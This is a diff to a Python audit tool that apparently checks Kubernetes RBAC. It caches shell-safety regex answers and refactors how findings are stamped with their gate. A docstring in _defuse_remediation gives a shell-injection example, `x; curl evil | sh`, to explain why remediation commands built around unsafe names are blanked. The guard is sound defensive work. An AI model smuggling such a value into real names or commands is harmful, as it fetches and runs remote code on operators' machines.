@@ -127,23 +127,29 @@ class _Stamp:
         self.overrides = overrides
         # id -> the finding itself (kept: an id is not reused while it lives) and the check it was stamped for
         self.done: dict[int, tuple[Finding, type[Check]]] = {}
+        # A name or namespace -> mesh.shell_safe's answer: the audit's findings name the same few thousand subjects
+        # tens of thousands of times (a workload in each gate and check, a namespace for each of its workloads).
+        self.shell_safe: dict[str, bool] = {}
 
-    def __call__(self, f: Finding, check: type[Check], gate: Gate) -> Finding:
+    def __call__(self, f: Finding, check: type[Check], gate: str) -> Finding:
+        """`f` stamped for `check` in the gate whose value is `gate` (read once per check and gate, not per finding:
+        an enum's value is a Python-level property)."""
         seen = self.done.get(id(f))
         if seen is None or seen[0] is not f:
             self.done[id(f)] = (f, check)
-            return _stamp(f, check, gate, self.overrides)
+            return _stamp(f, check, gate, self.overrides, self.shell_safe)
         again = copy_finding(f)
         if seen[1] is check:
-            again.gate = gate.value
+            again.gate = gate
             return again
         # The same object from another check (a plugin's shared constant): judged again for that one, never trusted
         # on the first check's word.
-        return _stamp(again, check, gate, self.overrides)
+        return _stamp(again, check, gate, self.overrides, self.shell_safe)
 
 
-def _stamp(f: Finding, check: type[Check], gate: Gate, overrides: dict[str, Severity]) -> Finding:
-    f.gate = gate.value
+def _stamp(f: Finding, check: type[Check], gate: str, overrides: dict[str, Severity],
+           shell_safe: dict[str, bool]) -> Finding:
+    f.gate = gate
     f.check_id = check.id
     f.title = check.title
     if not f.code:
@@ -159,7 +165,7 @@ def _stamp(f: Finding, check: type[Check], gate: Gate, overrides: dict[str, Seve
     # an override by code wins over one by check id.
     f.default_severity = f.severity or check.severity
     f.severity = overrides.get(f.code) or overrides.get(check.id) or f.default_severity
-    _defuse_remediation(f)
+    _defuse_remediation(f, shell_safe)
     return f
 
 
@@ -177,17 +183,24 @@ def _undeclared(f: Finding, check: type[Check], what: str, evidence: dict[str, s
     f.code, f.severity = ENGINE_UNDECLARED.code, None
 
 
-def _defuse_remediation(f: Finding) -> None:
+def _defuse_remediation(f: Finding, shell_safe: dict[str, bool] | None = None) -> None:
     """No copy-paste command built around a name a shell would interpret (`x; curl evil | sh`, newlines...).
 
     A real API server refuses most such names, but RBAC names are only path segments and a snapshot can
     hold anything; checks format commands with plain f-strings, so the guard sits here, once for all.
+    `shell_safe` keeps mesh.shell_safe's answers (a regex) for the values asked before.
     """
     if not f.remediation:
         return
+    shell_safe = {} if shell_safe is None else shell_safe
     for what, value in (("name", f.name), ("namespace", f.namespace)):
-        # Asked only of a value the command holds: most findings' remediation names neither (shell_safe is a regex).
-        if value and value in f.remediation and not mesh.shell_safe(value):
+        # Asked only of a value the command holds: most findings' remediation names neither.
+        if not value or value not in f.remediation:
+            continue
+        safe = shell_safe.get(value)
+        if safe is None:
+            safe = shell_safe[value] = mesh.shell_safe(value)
+        if not safe:
             shown = repr(value) if len(value) <= 120 else repr(value[:120]) + "..."
             f.remediation = (f"# no command shown: the {what} {shown} contains characters a shell would "
                              "interpret (corrupt or hostile input); act on it by hand")
@@ -267,7 +280,8 @@ class _Judging:
             said = [(f.cluster, f.message) for f in out if f.status is Status.UNKNOWN]
             out.extend(instance.report(ENGINE_UNREADABLE, name, reason) for name, reason in missing.items()
                        if not any(c == name and reason in m for c, m in said))
-        return [stamp(f, self.check, ctx.gate) for f in out]
+        gate = ctx.gate.value
+        return [stamp(f, self.check, gate) for f in out]
 
 
 def _guarded(instance: Check, cluster: str, produce: Callable[[], Iterable[Finding]], *,
